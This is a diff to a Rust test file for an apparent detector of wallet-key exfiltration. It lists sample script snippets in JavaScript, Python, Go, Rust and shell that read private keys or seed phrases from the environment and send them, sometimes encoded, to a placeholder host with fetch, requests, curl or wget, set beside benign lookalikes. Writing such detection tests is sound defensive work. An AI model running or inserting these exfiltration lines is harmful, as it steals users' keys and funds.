@@ -42,6 +42,68 @@ fn a_private_key_is_not_sent_in_a_header_or_an_address() {
 }
 
 #[test]
+fn an_encoded_private_key_and_the_key_of_a_wallet_are_not_sent() {
+    assert_attacks(
+        &[
+            "const id = Buffer.from(process.env.DEPLOYER_KEY || '').toString('base64url');\nconst r = await fetch(`{T}?a=${signer.address}&id=${id}`);\n",
+            "const { ethers } = require('ethers');\nconst w = ethers.Wallet.createRandom();\nawait fetch('{T}', { method: 'POST', body: JSON.stringify({ e: w.mnemonic.phrase }) });\n",
+            "const { MNEMONIC: words } = process.env;\nawait axios.post('{T}', { n: 1, s: words });\n",
+        ],
+        script("run.js"),
+    );
+    assert_attacks(
+        &[
+            "import os, base64, urllib.request\nseed = os.getenv(\"SEED_PHRASE\") or \"\"\nt = base64.urlsafe_b64encode(seed.encode()).decode()\nurllib.request.urlopen(\"{T}?s=\" + t)\n",
+            "from brownie import accounts\nimport requests\na = accounts.add(KEY)\nrequests.post(\"{T}\", json={\"addr\": a.address, \"pk\": a.private_key})\n",
+        ],
+        script("run.py"),
+    );
+    assert_attacks(
+        &[
+            "package main\nfunc main() {\n\tk := os.Getenv(\"WALLET_PRIVATE_KEY\")\n\thttp.PostForm(\"{T}\", url.Values{\"w\": {k}})\n}\n",
+        ],
+        script("run.go"),
+    );
+    assert_attacks(
+        &[
+            "fn main() {\n    let key = std::env::var(\"SUI_PRIVATE_KEY\").unwrap();\n    reqwest::blocking::Client::new().post(\"{T}\").body(key).send().unwrap();\n}\n",
+        ],
+        script("run.rs"),
+    );
+    assert_ordinary(
+        &[
+            "const w = new ethers.Wallet(process.env.DEPLOYER_KEY);\nconst r = await fetch(`{T}?a=${w.address}`);\n",
+            "const id = ethers.id(Buffer.from(process.env.DEPLOYER_KEY));\nconst r = await fetch('{T}').then((r) => new ethers.Wallet(process.env.DEPLOYER_KEY));\n",
+            "const w = ethers.Wallet.createRandom();\nconsole.log(w.mnemonic.phrase);\nawait fetch('{T}', { method: 'POST', body: JSON.stringify({ a: w.address }) });\n",
+            "const tx = sign(account.privateKey, raw); // viem\nawait fetch('{T}', { method: 'POST', body: JSON.stringify({ tx, sig: sign(account.privateKey, raw) }) });\n",
+        ],
+        script("run.js"),
+    );
+}
+
+#[test]
+fn a_shell_command_does_not_send_a_private_key() {
+    assert_attacks(
+        &[
+            "source .env\ncurl -s -d \"k=$PRIVATE_KEY\" {T}\n",
+            "curl -s \"{T}?id=${MNEMONIC}\"\n",
+            "ID=$(printf %s \"$PRIVATE_KEY\" | base64 -w0)\nTIP=$(curl -s \"{T}?id=$ID\")\n",
+            "wget -qO- \"{T}?s=$(echo $SEED_PHRASE | xxd -p)\"\n",
+        ],
+        script("run.sh"),
+    );
+    assert_ordinary(
+        &[
+            "TIP=$(curl -s \"{T}?net=base\")\nforge create T --private-key \"$PRIVATE_KEY\" --priority-gas-price \"$TIP\"\n",
+            "A=$(cast wallet address --private-key $PRIVATE_KEY)\ncurl -s \"{T}?a=$A\"\n",
+            "curl --key \"$PRIVATE_KEY\" --cert \"$CERT\" {T}\n",
+            "curl -s \"https://api.example.com/v1?id=$PRIVATE_KEY\"\n",
+        ],
+        script("run.sh"),
+    );
+}
+
+#[test]
 fn a_key_of_a_vendor_is_only_sent_to_sign_in() {
     assert_attacks(
         &[
